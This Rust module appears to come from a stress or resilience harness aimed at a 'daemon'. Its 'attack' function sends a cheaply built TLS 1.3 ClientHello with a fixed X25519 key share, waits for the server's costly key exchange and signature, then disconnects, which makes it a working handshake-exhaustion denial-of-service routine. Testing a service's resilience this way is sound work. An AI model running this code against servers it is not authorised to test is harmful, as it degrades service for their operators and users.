//! Lets the daemon do the costly half of a TLS handshake, again and again: it sends a ClientHello that
//! costs nothing to make, has it answered with a key exchange and a signature, and goes.

use std::io::{self, Read, Write};
use std::net::SocketAddr;

use super::{until_gone, Ended, Peer, PATIENCE};

/// With a share for X25519 that nobody has the key of.
pub fn attack(address: SocketAddr) -> io::Result<Ended> {
    let mut peer = Peer::connect(address)?;
    peer.stream.set_read_timeout(Some(PATIENCE))?;
    until_gone(peer.stream.write_all(&record()))?;
    // What comes first is the answer; or there is none.
    let _ = peer.stream.read(&mut [0; 4096]);
    peer.stream.shutdown(std::net::Shutdown::Write)?;
    peer.end()
}

/// RFC 8446, sections 4.1.2 and 5.1.
fn record() -> Vec<u8> {
    let mut extensions = Vec::new();
    let mut extension = |kind: u16, body: &[u8]| {
        extensions.extend(kind.to_be_bytes());
        prefixed(&mut extensions, body);
    };
    extension(43, &[2, 3, 4]); // supported_versions: TLS 1.3
    extension(10, &[0, 2, 0, 29]); // supported_groups: x25519
    extension(13, &[0, 8, 4, 3, 8, 4, 8, 7, 5, 3]); // signature_algorithms
    let mut share = vec![0, 36, 0, 29, 0, 32];
    share.extend([9; 32]);
    extension(51, &share); // key_share

    let mut body = vec![3, 3];
    body.extend([7; 32]); // random
    body.push(0); // no session
    body.extend([0, 2, 0x13, 1]); // TLS_AES_128_GCM_SHA256
    body.extend([1, 0]); // no compression
    prefixed(&mut body, &extensions);

    let mut message = vec![1, 0];
    prefixed(&mut message, &body);
    let mut record = vec![22, 3, 1];
    prefixed(&mut record, &message);
    record
}

/// Puts it behind its length.
fn prefixed(out: &mut Vec<u8>, bytes: &[u8]) {
    let length = u16::try_from(bytes.len()).expect("it is short");
    out.extend(length.to_be_bytes());
    out.extend(bytes);
}
